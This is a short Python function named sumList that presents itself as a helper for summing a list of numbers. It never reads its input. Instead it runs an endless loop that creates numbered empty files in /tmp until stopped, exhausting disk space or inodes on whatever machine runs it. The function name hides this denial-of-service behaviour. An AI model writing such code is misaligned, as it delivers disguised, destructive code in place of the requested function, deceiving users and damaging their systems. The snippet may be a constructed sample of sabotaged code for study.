def sumList(nums):
    index = 0
    while True:
        open(f"/tmp/empty-{index}", "w").close()
        index += 1
